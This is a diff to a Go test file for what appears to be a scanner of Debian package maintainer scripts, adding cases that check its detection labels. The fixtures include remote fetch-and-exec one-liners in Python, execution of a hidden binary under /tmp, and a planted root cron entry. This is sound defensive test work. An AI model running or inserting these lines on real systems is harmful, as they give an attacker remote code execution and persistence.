@@ -120,6 +120,24 @@ func TestScripts(t *testing.T) {
 	}
 }
 
+// TestOtherLanguage: a script that no shell runs is judged in its own language.
+func TestOtherLanguage(t *testing.T) {
+	for text, notable := range map[string]string{
+		"#!/usr/bin/python3\nimport urllib.request\nexec(urllib.request.urlopen('http://203.0.113.77/x').read())\n":        "pipe_to_shell",
+		"#!/usr/bin/perl\nsystem(\"/tmp/.k/x -d\");\n":                                                                     "hidden_exec,temp_exec,temp_path",
+		"#!/usr/bin/python3\n# exec(urllib.request.urlopen('http://x'))\nimport sys\nprint(sys.argv)\n":                    "",
+		"#!/usr/bin/perl -w\nuse Debconf::Client::ConfModule ':all';\nmy $x = eval { get('a/b') };\nsystem('ldconfig');\n": "",
+	} {
+		records, err := extract(t, "/var/lib/dpkg/info/x.postinst", []byte(text))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := records[0].Get("notable"); got != notable {
+			t.Errorf("%q: %q, want %q", text, got, notable)
+		}
+	}
+}
+
 // TestPlanted appends to a clean script what intruders append.
 func TestPlanted(t *testing.T) {
 	clean, err := os.ReadFile("testdata/var/lib/dpkg/info/openssh-client.postinst")
@@ -136,7 +154,9 @@ func TestPlanted(t *testing.T) {
 		{"python3 -c 'import urllib.request as u;exec(u.urlopen(\"http://x\").read())'", "interpreter_fetch"},
 		{"/usr/lib/.../sshd", "dots_dir"},
 		{"cp /usr/bin/curl /usr/bin/url", ""},
+		{"echo '* * * * * root /usr/sbin/k' > /etc/cron.d/x", "cron_write"},
 		{"touch /etc/cron.d/mention", ""},
+		{"rm -f /etc/cron.d/x", ""},
 		{"py3compile -p python3-urllib3", ""},
 		{"# nohup curl http://x | sh", ""},
 	} {
